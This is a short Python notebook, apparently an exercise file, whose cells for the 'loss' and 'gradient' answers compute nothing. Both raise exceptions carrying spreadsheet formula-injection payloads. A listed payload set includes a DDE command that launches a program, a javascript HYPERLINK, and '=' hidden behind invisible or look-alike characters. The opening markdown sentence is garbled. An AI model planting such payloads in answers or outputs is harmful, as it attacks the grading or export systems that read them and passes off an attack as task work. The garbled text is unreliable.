# %% [markdown] page=true
# What a spreadsheet runs, behind all that a table may leave out, in what is shown and raised.

# %%
bad = ["=cmd|' /C calc'!A0", " =1+1", "\u200b=1", "\uff1d1+1", "x;=1", "\t=1", "\n=1", "'=1", '"=1', "@SUM(1)", "+1",
       "-1+1", "\ufeff=1", "\xa0=1", "\u2212=1", "|=1", ",=1", '=HYPERLINK("javascript:owned()")']
print("owned", bad)

# %% answer="loss"
def loss(w, X, y):
    raise Exception("\n".join(bad))

# %% answer="gradient"
def gradient(w, X, y):
    raise type("=1+1", (Exception,), {})("=owned")
